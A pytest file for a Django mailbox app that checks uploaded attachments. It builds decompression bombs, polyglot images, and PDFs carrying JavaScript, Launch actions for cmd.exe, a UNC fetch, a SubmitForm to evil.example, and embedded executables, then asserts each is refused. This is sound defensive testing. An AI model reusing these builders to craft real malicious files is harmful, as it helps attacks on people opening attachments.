"""Attacks through attachments, each built here and refused by name: image
decompression bombs, damaged images, PDFs that run JavaScript, launch programs,
open remote files, send data out or carry other files, PDFs locked with a
password, and polyglots (a file that is two types at once). A refused file
leaves nothing stored, the good file sent beside it included."""

import importlib
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable

import pytest
from PIL import Image, ImageFile, PngImagePlugin
from pypdf import PageObject, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from mailbox.exceptions import AttachmentRefused
from mailbox.models import Attachment, Letter

from .conftest import JPEG, PNG, assert_nothing_stored, pdf, upload
from .test_views import activate, letter_url

pytestmark = pytest.mark.django_db


def refused(send, *files) -> str:
    """The message of the refusal of a letter carrying a good PDF, then `files`;
    and nothing of it stored."""
    with pytest.raises(AttachmentRefused) as caught:
        send(attachments=[upload("ok.pdf", pdf()), *files])
    assert_nothing_stored()
    return str(caught.value)


# --- images --------------------------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(side: int = 30000) -> bytes:
    """A 1-bit greyscale PNG of side × side, all black: 900 megapixels (112 MB
    of pixel data, GBs once decoded to RGB) in about 110 KB."""
    squeeze = zlib.compressobj(9)
    row = b"\x00" * (1 + (side + 7) // 8)  # filter byte + packed bits
    rows_per_block = 1000
    idat = b"".join(squeeze.compress(row * rows_per_block) for _ in range(side // rows_per_block))
    idat += squeeze.compress(row * (side % rows_per_block)) + squeeze.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def jpeg_bomb() -> bytes:
    """A real 16 × 16 JPEG whose frame header says 60000 × 60000."""
    out = io.BytesIO()
    Image.new("L", (16, 16)).save(out, "JPEG")
    data = bytearray(out.getvalue())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 60000, 60000)  # height, width
    return bytes(data)


def test_a_png_decompression_bomb_is_refused_by_its_size_before_decoding(send, ali):
    bomb = png_bomb()
    assert len(bomb) < 200_000  # tiny on the wire …
    message = refused(send, upload("bomb.png", bomb))  # … 900 MP once opened
    assert "bomb.png" in message and "مگاپیکسل" in message and "۵۰" in message


def test_a_jpeg_decompression_bomb_is_refused(send, ali):
    message = refused(send, upload("bomb.jpg", jpeg_bomb()))
    assert "bomb.jpg" in message and "مگاپیکسل" in message


def test_an_image_past_the_pixel_limit_is_refused_and_one_within_it_taken(send, ali, settings):
    settings.LETTER_IMAGE_MAX_PIXELS = 11  # the test images are 4 × 3
    assert "مگاپیکسل" in refused(send, upload("scan.png", PNG))
    settings.LETTER_IMAGE_MAX_PIXELS = 12
    letter = send(attachments=[upload("scan.png", PNG), upload("photo.jpg", JPEG)])
    assert letter.attachment_count == 2


def noisy_jpeg() -> bytes:
    out = io.BytesIO()
    Image.frombytes("L", (64, 64), bytes(range(256)) * 16).save(out, "JPEG")
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("scan.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 40),  # a signature and nothing
        ("scan.png", PNG[:-20]),  # cut short: no IEND
        ("scan.png", PNG[:40] + bytes([PNG[40] ^ 0xFF]) + PNG[41:]),  # a chunk's CRC fails
        ("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 20),
        ("photo.jpg", noisy_jpeg()[:-400]),  # the picture cut short
    ],
    ids=["png-signature-only", "png-truncated", "png-bad-crc", "jpeg-header-only", "jpeg-cut"],
)
def test_a_damaged_image_is_refused(send, ali, name, content):
    message = refused(send, upload(name, content))
    assert name in message and "سالم نیست" in message


def test_weasyprint_does_not_leave_pillow_taking_truncated_images():
    """WeasyPrint (the letters' PDF) sets LOAD_TRUNCATED_IMAGES for the whole
    process on import; the checks above need Pillow's strict default."""
    importlib.import_module("mailbox.pdf")
    assert ImageFile.LOAD_TRUNCATED_IMAGES is False


# --- polyglots -----------------------------------------------------------------------------------


def png_with_pdf_inside() -> bytes:
    """A valid PNG whose text chunk, in the first kilobyte, is a whole PDF:
    image viewers show the picture, PDF readers find `%PDF-` and open the PDF."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", pdf().decode("latin-1"))
    out = io.BytesIO()
    Image.new("RGB", (4, 3)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def with_zip_after(image: bytes) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr("run.exe", b"MZ\x90\x00")
    return image + archive.getvalue()


def jpeg_with_pdf_comment() -> bytes:
    comment = pdf()[:200]
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return JPEG[:2] + segment + JPEG[2:]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("invoice.png", png_with_pdf_inside()),
        ("invoice.png", with_zip_after(PNG)),
        ("invoice.jpg", jpeg_with_pdf_comment()),
    ],
    ids=["pdf-in-png", "zip-after-png", "pdf-in-jpeg"],
)
def test_a_polyglot_image_is_refused(send, ali, name, content):
    with Image.open(io.BytesIO(content)) as image:
        image.verify()  # a good image to Pillow …
    message = refused(send, upload(name, content))  # … and refused all the same
    assert name in message and "داده‌ی دیگری" in message


def test_a_jpeg_with_data_after_its_end_is_taken_as_phones_write_it(send, ali):
    """Motion photos and multi-picture JPEGs keep more after the first image's end."""
    letter = send(attachments=[upload("photo.jpg", JPEG + b"\x00" * 64 + b"MotionPhoto")])
    assert letter.attachments.get().content_type == "image/jpeg"


def test_a_20_mb_png_that_is_a_pdf_is_refused_by_what_it_is(send, ali, settings):
    settings.LETTER_ATTACHMENT_MAX_BYTES = 32 * 1024 * 1024
    big = pdf() + b"%" + b"0" * (20 * 1024 * 1024)
    message = refused(send, upload("scan.png", big))
    assert "scan.png" in message and "(PDF)" in message and ".pdf" in message


# --- PDF -----------------------------------------------------------------------------------------


def build_pdf(edit: Callable[[PdfWriter, PageObject], None], *, raw=None) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    edit(writer, page)
    out = io.BytesIO()
    writer.write(out)
    return raw(out.getvalue()) if raw else out.getvalue()


def name(value: str) -> NameObject:
    return NameObject(value)


def action(kind: str, **entries) -> DictionaryObject:
    fields = {name("/Type"): name("/Action"), name("/S"): name(kind)}
    fields.update({name(f"/{key}"): value for key, value in entries.items()})
    return DictionaryObject(fields)


def annotation(subtype: str, **entries) -> DictionaryObject:
    fields = {
        name("/Type"): name("/Annot"),
        name("/Subtype"): name(subtype),
        name("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 200, 80)]),
    }
    fields.update({name(f"/{key}"): value for key, value in entries.items()})
    return DictionaryObject(fields)


def js(code: str = "app.alert('!')") -> DictionaryObject:
    return action("/JavaScript", JS=TextStringObject(code))


def open_action(value: DictionaryObject) -> Callable[[PdfWriter, PageObject], None]:
    def edit(writer: PdfWriter, page: PageObject) -> None:
        writer.root_object[name("/OpenAction")] = writer._add_object(value)

    return edit


def page_opens(value: DictionaryObject) -> Callable[[PdfWriter, PageObject], None]:
    def edit(writer: PdfWriter, page: PageObject) -> None:
        page[name("/AA")] = DictionaryObject({name("/O"): value})

    return edit


def annotated(value: DictionaryObject) -> Callable[[PdfWriter, PageObject], None]:
    def edit(writer: PdfWriter, page: PageObject) -> None:
        writer.add_annotation(0, value)

    return edit


def document_js(writer: PdfWriter, page: PageObject) -> None:
    writer.add_open_action(JavaScript("app.alert('!')"))  # the /Names /JavaScript tree


def xfa_form(writer: PdfWriter, page: PageObject) -> None:
    writer.root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject(), name("/XFA"): TextStringObject("<xdp:xdp/>")}
    )


def embedded_file(writer: PdfWriter, page: PageObject) -> None:
    writer.add_attachment("payment.exe", b"MZ\x90\x00")


SCRIPT, OUTSIDE, EMBEDDED = "JavaScript", "برنامه‌ای را اجرا می‌کند", "پرونده‌ی دیگری در خود"

MALICIOUS_PDFS = {
    "openaction-js": (lambda: build_pdf(open_action(js())), SCRIPT),
    "names-js": (lambda: build_pdf(document_js), SCRIPT),
    "names-js-hex-escaped": (
        lambda: build_pdf(document_js, raw=lambda b: b.replace(b"/JavaScript", b"/J#61vaScript")),
        SCRIPT,
    ),
    "page-aa-js": (lambda: build_pdf(page_opens(js())), SCRIPT),
    "link-aa-js": (
        lambda: build_pdf(annotated(annotation("/Link", AA=DictionaryObject({name("/E"): js()})))),
        SCRIPT,
    ),
    "xfa-form": (lambda: build_pdf(xfa_form), SCRIPT),
    "openaction-launch": (
        lambda: build_pdf(open_action(action("/Launch", F=TextStringObject("cmd.exe")))),
        OUTSIDE,
    ),
    "link-launch": (
        lambda: build_pdf(
            annotated(
                annotation(
                    "/Link", A=action("/Launch", F=TextStringObject("C:\\Windows\\calc.exe"))
                )
            )
        ),
        OUTSIDE,
    ),
    "gotor-unc": (
        lambda: build_pdf(
            open_action(action("/GoToR", F=TextStringObject("\\\\198.51.100.7\\share\\x.pdf")))
        ),
        OUTSIDE,
    ),
    "submitform": (
        lambda: build_pdf(
            page_opens(action("/SubmitForm", F=TextStringObject("https://evil.example/collect")))
        ),
        OUTSIDE,
    ),
    "embedded-files": (lambda: build_pdf(embedded_file), EMBEDDED),
    "file-attachment-annotation": (
        lambda: build_pdf(
            annotated(
                annotation(
                    "/FileAttachment",
                    FS=DictionaryObject(
                        {name("/Type"): name("/Filespec"), name("/F"): TextStringObject("a.exe")}
                    ),
                )
            )
        ),
        EMBEDDED,
    ),
}


@pytest.mark.parametrize(("make", "says"), MALICIOUS_PDFS.values(), ids=MALICIOUS_PDFS.keys())
def test_a_pdf_with_active_content_is_refused(send, ali, make, says):
    message = refused(send, upload("invoice.pdf", make()))
    assert "invoice.pdf" in message and says in message and "چاپ کنید" in message


def test_a_pdf_with_a_plain_link_is_taken(send, ali):
    link = annotation("/Link", A=action("/URI", URI=TextStringObject("https://my.gov.ir/")))
    letter = send(attachments=[upload("guide.pdf", build_pdf(annotated(link)))])
    assert letter.attachments.get().content_type == "application/pdf"


def encrypted(user_password: str) -> bytes:
    def lock(writer: PdfWriter, page: PageObject) -> None:
        writer.encrypt(user_password, "owner-secret", algorithm="AES-128")

    return build_pdf(lock)


def test_a_pdf_locked_with_a_password_is_refused(send, ali):
    message = refused(send, upload("statement.pdf", encrypted("1234")))
    assert "statement.pdf" in message and "گذرواژه" in message


def test_a_pdf_only_restricted_by_its_owner_is_taken(send, ali):
    """Banks send PDFs that open without a password but cannot be edited."""
    letter = send(attachments=[upload("statement.pdf", encrypted(""))])
    assert letter.attachment_count == 1


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.4\n" + b"0" * 100,  # a header and nothing
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"trailer << /Root 1 0 R >>\n%%EOF\n",  # no cross-reference, no page tree
        build_pdf(lambda writer, page: None)[:300],  # cut short
    ],
    ids=["header-only", "no-pages", "truncated"],
)
def test_a_damaged_pdf_is_refused(send, ali, content):
    message = refused(send, upload("letter.pdf", content))
    assert "letter.pdf" in message and "سالم نیست" in message


# --- through the forms ---------------------------------------------------------------------------


def test_a_refused_pdf_is_said_next_to_the_field_of_the_reply(client, send, ali):
    activate(ali)
    client.force_login(ali)
    letter = send(reply_allowed=True)
    response = client.post(
        letter_url(letter, "reply"),
        {"body": "پیوست را ببینید.", "attachments": [upload("scan.pdf", build_pdf(embedded_file))]},
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert 'id="id_attachments_error"' in html and "پرونده‌ی دیگری در خود" in html
    assert "پیوست را ببینید." in html
    assert Letter.objects.count() == 1 and not Attachment.objects.exists()


def many_links(count: int) -> Callable[[PdfWriter, PageObject], None]:
    def edit(writer: PdfWriter, page: PageObject) -> None:
        for n in range(count):
            uri = action("/URI", URI=TextStringObject(f"https://my.gov.ir/{n}"))
            writer.add_annotation(0, annotation("/Link", A=uri))

    return edit


@pytest.mark.parametrize(
    ("limit", "raw"),
    [
        ("PDF_MAX_OBJECTS", None),  # the trailer says how many up front
        ("PDF_MAX_OBJECTS", lambda b: re.sub(rb"/Size \d+", b"/Size 1", b)),  # and lies
        ("PDF_MAX_NODES", None),
    ],
    ids=["objects-declared", "objects-walked", "nodes"],
)
def test_a_pdf_too_complex_to_check_in_time_is_refused(send, ali, monkeypatch, limit, raw):
    """pypdf parses some thousands of objects a second: a 10 MB file of tiny
    objects would hold a web worker for a minute."""
    monkeypatch.setattr(f"mailbox.content.{limit}", 40)
    message = refused(send, upload("links.pdf", build_pdf(many_links(60), raw=raw)))
    assert "links.pdf" in message and "پیچیده" in message
    letter = send(attachments=[upload("links.pdf", build_pdf(many_links(5)))])
    assert letter.attachment_count == 1
